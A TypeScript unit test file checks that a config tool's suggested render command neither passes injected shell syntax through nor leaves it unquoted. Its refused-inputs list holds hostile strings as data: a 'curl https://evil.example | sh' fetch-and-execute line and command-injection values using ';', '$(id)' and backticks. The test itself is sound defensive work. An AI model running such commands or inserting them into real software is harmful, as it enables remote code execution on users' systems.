// The command that check-config suggests for a file: what the file says about itself must not reach a shell unread.
import { expect } from 'chai';
import { renderCommandFor, toCommandLine } from '../../src/render/render-command.ts';

const suggested = (line: string): string => renderCommandFor(Buffer.from(`${line}\nadmin: {}\n`), 'config.yaml');
const made = (command: string): string => suggested(`# Made by account-authz 1.2.3: account-authz render ${command}`);
const parts = 'account-authz render envoy-parts --config config.yaml';

describe('renderCommandFor', () => {
  const kept: readonly (readonly [command: string, suggestion: string])[] = [
    ['envoy --config other.yaml', 'envoy'],
    ['envoy --trusted-hops=1 --config=other.yaml', 'envoy --trusted-hops 1'],
    [
      'envoy --cors-origin https://a.example --cors-origin https://b.example',
      'envoy --cors-origin https://a.example --cors-origin https://b.example',
    ],
    ["kubernetes --selector 'app=a' --config 'a b.yaml'", 'kubernetes --selector app=a'],
    ['envoy --cors-origin https://$(id)', "envoy --cors-origin 'https://$(id)'"],
    ["envoy --config 'it'\\''s.yaml' --upstream 127.0.0.1:9000", 'envoy --upstream 127.0.0.1:9000'],
  ];
  for (const [command, suggestion] of kept) {
    it(`repeats the options of: ${command}`, () => {
      expect(made(command)).to.equal(`account-authz render ${suggestion} --config config.yaml`);
    });
  }

  const refused = [
    'envoy; curl https://evil.example | sh',
    'envoy --config a.yaml; touch pwned',
    'envoy --upstream 127.0.0.1:9000;id',
    'envoy --upstream $(id):80',
    'envoy --image x',
    'envoy --name `id`',
    'envoy --out /etc',
    'envoy --unknown x',
    'envoy more',
    'constructor --listen 0.0.0.0:80',
    '',
  ];
  for (const command of refused) {
    it(`suggests envoy-parts for what render would not take: ${command}`, () => {
      expect(made(command)).to.equal(parts);
    });
  }

  it('suggests envoy-parts for a file that render did not make', () => {
    expect(suggested('# My account-authz render envoy --trusted-hops 1')).to.equal(parts);
  });

  it('suggests envoy-parts for a first line of a megabyte', () => {
    expect(made(`envoy --upstream ${"'a' ".repeat(250_000)}`)).to.equal(parts);
  });
});

describe('toCommandLine', () => {
  it('quotes for a shell what is more than a plain word', () => {
    expect(toCommandLine(['a', "it's", '$(id)', 'b c'])).to.equal("a 'it'\\''s' '$(id)' 'b c'");
  });
});
